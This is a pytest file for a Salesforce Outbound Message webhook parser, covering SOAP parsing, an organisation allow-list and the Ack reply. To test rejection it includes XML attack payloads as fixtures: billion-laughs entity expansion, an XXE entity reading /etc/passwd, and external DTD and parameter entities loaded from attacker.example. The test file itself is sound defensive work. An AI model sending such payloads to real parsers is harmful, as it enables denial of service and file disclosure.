"""Salesforce Outbound Messages: safe parsing, the org allow-list and the Ack reply."""

from __future__ import annotations

import xml.etree.ElementTree as ET

import pytest

from adapters.webhooks import salesforce
from adapters.webhooks.signatures import MalformedPayload, SignatureError

ORG_15 = "00D5g000004Jx9Q"
ORG_18 = "00D5g000004Jx9QEAS"
OUTBOUND_NS = "http://soap.sforce.com/2005/09/outbound"

# Shaped like a delivery from a CPQ org: two quotes, one with an empty (nil) field.
ENVELOPE = b"""<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"
    xmlns:xsd="http://www.w3.org/2001/XMLSchema"
    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
   <OrganizationId>00D5g000004Jx9QEAS</OrganizationId>
   <ActionId>04k5g000000XyZaAAK</ActionId>
   <SessionId xsi:nil="true"/>
   <EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/61.0/00D5g000004Jx9Q</EnterpriseUrl>
   <PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/61.0/00D5g000004Jx9Q</PartnerUrl>
   <Notification>
    <Id>04l5g00000AbCdEAAV</Id>
    <sObject xsi:type="sf:SBQQ__Quote__c" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>a0x5g00000Qw1RtAAJ</sf:Id>
     <sf:Name>Q-001001</sf:Name>
     <sf:SBQQ__Status__c>Accepted</sf:SBQQ__Status__c>
     <sf:SBQQ__NetAmount__c>129900.00</sf:SBQQ__NetAmount__c>
     <sf:SBQQ__Notes__c xsi:nil="true"/>
    </sObject>
   </Notification>
   <Notification>
    <Id>04l5g00000AbCdFAAV</Id>
    <sObject xsi:type="sf:SBQQ__Quote__c" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>a0x5g00000Qw1RuAAJ</sf:Id>
     <sf:Name>Q-001002</sf:Name>
     <sf:SBQQ__Status__c>Accepted</sf:SBQQ__Status__c>
     <sf:SBQQ__NetAmount__c>4500.50</sf:SBQQ__NetAmount__c>
     <sf:SBQQ__Notes__c>Ship &amp; bill in EUR</sf:SBQQ__Notes__c>
    </sObject>
   </Notification>
  </notifications>
 </soapenv:Body>
</soapenv:Envelope>
"""


def envelope_with(notifications_xml: str, *, org: str = ORG_18) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"'
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body>'
        f'<notifications xmlns="{OUTBOUND_NS}">'
        f"<OrganizationId>{org}</OrganizationId><ActionId>04k5g000000XyZaAAK</ActionId>"
        f"{notifications_xml}</notifications></soapenv:Body></soapenv:Envelope>"
    ).encode()


def one_notification(sobject_body: str = "<sf:Id>a0x5g00000Qw1RtAAJ</sf:Id>") -> str:
    return (
        "<Notification><Id>04l5g00000AbCdEAAV</Id>"
        '<sObject xsi:type="sf:Opportunity" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
        f"{sobject_body}</sObject></Notification>"
    )


# -- parsing ------------------------------------------------------------------------------


def test_realistic_envelope_is_parsed():
    message = salesforce.parse_outbound_message(ENVELOPE)
    assert message.organization_id == ORG_18
    assert message.action_id == "04k5g000000XyZaAAK"
    assert [n.id for n in message.notifications] == ["04l5g00000AbCdEAAV", "04l5g00000AbCdFAAV"]
    first, second = message.notifications
    assert first.sobject_type == "SBQQ__Quote__c"
    assert first.fields == {
        "Id": "a0x5g00000Qw1RtAAJ",
        "Name": "Q-001001",
        "SBQQ__Status__c": "Accepted",
        "SBQQ__NetAmount__c": "129900.00",
        "SBQQ__Notes__c": None,
    }
    assert second.fields["SBQQ__Notes__c"] == "Ship & bill in EUR"
    assert second.fields["SBQQ__NetAmount__c"] == "4500.50"


def test_session_id_is_not_kept():
    envelope = ENVELOPE.replace(
        b'<SessionId xsi:nil="true"/>', b"<SessionId>00D5g!AQ4AQJ.secret.session</SessionId>"
    )
    message = salesforce.parse_outbound_message(envelope)
    assert "secret.session" not in message.model_dump_json()


def test_sample_builder_round_trips():
    body = salesforce.sample_outbound_message(
        ORG_18,
        [
            ("04l5g00000AbCdEAAV", "SBQQ__Quote__c", {"Id": "a0x5g00000Qw1RtAAJ", "Note": None}),
            ("04l5g00000AbCdFAAV", "Opportunity", {"Name": "Acme <EU> & Co", "Amount": "1.0"}),
        ],
    )
    message = salesforce.parse_outbound_message(body)
    assert message.organization_id == ORG_18
    assert [(n.id, n.sobject_type) for n in message.notifications] == [
        ("04l5g00000AbCdEAAV", "SBQQ__Quote__c"),
        ("04l5g00000AbCdFAAV", "Opportunity"),
    ]
    assert message.notifications[0].fields == {"Id": "a0x5g00000Qw1RtAAJ", "Note": None}
    assert message.notifications[1].fields == {"Name": "Acme <EU> & Co", "Amount": "1.0"}
    salesforce.verify_organization(message.organization_id, [ORG_15])


def test_empty_field_is_an_empty_string_not_none():
    body = envelope_with(one_notification("<sf:Id>a0x5g00000Qw1RtAAJ</sf:Id><sf:Name/>"))
    (notification,) = salesforce.parse_outbound_message(body).notifications
    assert notification.fields["Name"] == ""


def test_a_hundred_notifications_are_accepted():
    body = envelope_with(one_notification() * 100)
    assert len(salesforce.parse_outbound_message(body).notifications) == 100


def test_more_than_a_hundred_notifications_are_refused():
    with pytest.raises(MalformedPayload, match="more than 100 notifications"):
        salesforce.parse_outbound_message(envelope_with(one_notification() * 101))


@pytest.mark.parametrize(
    "body",
    [b"", b"not xml at all", b'{"json": true}', b"<unclosed>", b"\xff\xfe<a/>", b"<a></b>"],
)
def test_not_xml_is_malformed(body):
    with pytest.raises(MalformedPayload, match="not a valid XML document"):
        salesforce.parse_outbound_message(body)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">
 <soapenv:Body><notifications xmlns="http://soap.sforce.com/2005/09/outbound">
  <OrganizationId>&lol9;</OrganizationId>
 </notifications></soapenv:Body>
</soapenv:Envelope>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">
 <soapenv:Body><notifications xmlns="http://soap.sforce.com/2005/09/outbound">
  <OrganizationId>&xxe;</OrganizationId>
 </notifications></soapenv:Body>
</soapenv:Envelope>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<r/>
"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtd_and_entity_tricks_are_malformed(body):
    with pytest.raises(MalformedPayload) as caught:
        salesforce.parse_outbound_message(body)
    assert caught.value.reason == "body is not a valid XML document"
    assert "passwd" not in caught.value.reason


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"<notifications/>", "not a SOAP envelope"),
        (
            b'<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body/></e:Envelope>',
            "not a SOAP envelope",
        ),
        (
            b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"/>',
            "not an outbound message",
        ),
        (
            b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body>'
            b"<notifications><OrganizationId>x</OrganizationId></notifications>"
            b"</e:Body></e:Envelope>",
            "not an outbound message",
        ),
        (envelope_with(""), "no notifications"),
        (envelope_with(one_notification(), org=""), "no OrganizationId"),
        (
            envelope_with(one_notification()).replace(
                b"<ActionId>04k5g000000XyZaAAK</ActionId>", b""
            ),
            "no ActionId",
        ),
        (
            envelope_with(
                '<Notification><sObject xsi:type="sf:Opportunity"'
                ' xmlns:sf="urn:sobject.enterprise.soap.sforce.com"/></Notification>'
            ),
            "no notification Id",
        ),
        (
            envelope_with("<Notification><Id>04l5g00000AbCdEAAV</Id></Notification>"),
            "no sObject",
        ),
        (
            envelope_with(
                "<Notification><Id>04l5g00000AbCdEAAV</Id>"
                '<sObject xmlns:sf="urn:sobject.enterprise.soap.sforce.com"/></Notification>'
            ),
            "sObject has no type",
        ),
        (
            envelope_with(one_notification("<sf:Id>a</sf:Id><sf:Id>b</sf:Id>")),
            "repeats a field",
        ),
        (envelope_with(one_notification("<Id>a0x</Id>")), "unexpected element"),
        (
            envelope_with(one_notification("<sf:Owner><sf:Name>x</sf:Name></sf:Owner>")),
            "nested element",
        ),
    ],
)
def test_not_an_outbound_message_is_malformed(body, reason):
    with pytest.raises(MalformedPayload, match=reason):
        salesforce.parse_outbound_message(body)


# -- organisation allow-list --------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "allowed"),
    [
        (ORG_18, [ORG_18]),
        (ORG_18, [ORG_15]),
        (ORG_15, [ORG_18]),
        (ORG_15, [ORG_15]),
        ("00d5g000004jx9qAAA", ["00D5g000004Jx9Q", "00d5g000004jx9q"]),
        (ORG_15[:15] + "eas", [ORG_15]),  # the 18-character suffix is case-insensitive
        (f" {ORG_18} ", [f"{ORG_15}\n"]),
    ],
)
def test_known_organization_is_accepted(sent, allowed):
    salesforce.verify_organization(sent, allowed)


@pytest.mark.parametrize(
    ("sent", "allowed"),
    [
        ("00D5g000004Jx9R", [ORG_15]),
        ("00D5g000004JX9Q", [ORG_15]),  # the first 15 characters are case-sensitive
        ("00D5g000004JX9QEAS", [ORG_18]),  # suffix does not agree with the case
        ("00D5g000004Jx9QAAA", [ORG_15]),  # suffix does not match the id
        ("00d5g000004jx9qEAS", ["00d5g000004jx9q", ORG_15]),
        (ORG_18, []),
        (ORG_18, [""]),
        ("", [""]),
        ("00D5g", ["00D5g"]),  # too short
        (ORG_15 + "E", [ORG_15]),  # 16 characters
        (ORG_18 + "X", [ORG_18 + "X"]),  # 19 characters
        ("00D5g000004Jx9-", ["00D5g000004Jx9-"]),
    ],
)
def test_unknown_organization_is_refused(sent, allowed):
    with pytest.raises(SignatureError) as caught:
        salesforce.verify_organization(sent, allowed)
    assert caught.value.reason == "unknown organization"


def test_parsed_org_is_checked_against_the_allow_list():
    message = salesforce.parse_outbound_message(ENVELOPE)
    salesforce.verify_organization(message.organization_id, ["00D000000000062", ORG_15])
    with pytest.raises(SignatureError, match="unknown organization"):
        salesforce.verify_organization(message.organization_id, ["00D000000000062EAA"])


# -- the Ack reply ------------------------------------------------------------------------


def test_ack_parses_and_says_true():
    root = ET.fromstring(salesforce.ack())
    assert root.tag == "{http://schemas.xmlsoap.org/soap/envelope/}Envelope"
    body = root.find("{http://schemas.xmlsoap.org/soap/envelope/}Body")
    assert body is not None
    response = body.find(f"{{{OUTBOUND_NS}}}notificationsResponse")
    assert response is not None
    flag = response.find(f"{{{OUTBOUND_NS}}}Ack")
    assert flag is not None
    assert flag.text == "true"


def test_nack_says_false():
    root = ET.fromstring(salesforce.ack(ok=False))
    flag = root.find(f".//{{{OUTBOUND_NS}}}Ack")
    assert flag is not None
    assert flag.text == "false"


def test_ack_content_type():
    assert salesforce.ACK_CONTENT_TYPE == "text/xml; charset=utf-8"


@pytest.mark.parametrize("encoding", ["TTF-8", "no-such-codec", ""])
def test_an_unknown_declared_encoding_is_malformed_not_a_crash(encoding: str) -> None:
    body = f'<?xml version="1.0" encoding="{encoding}"?><a/>'.encode()
    with pytest.raises(MalformedPayload):
        salesforce.parse_outbound_message(body)
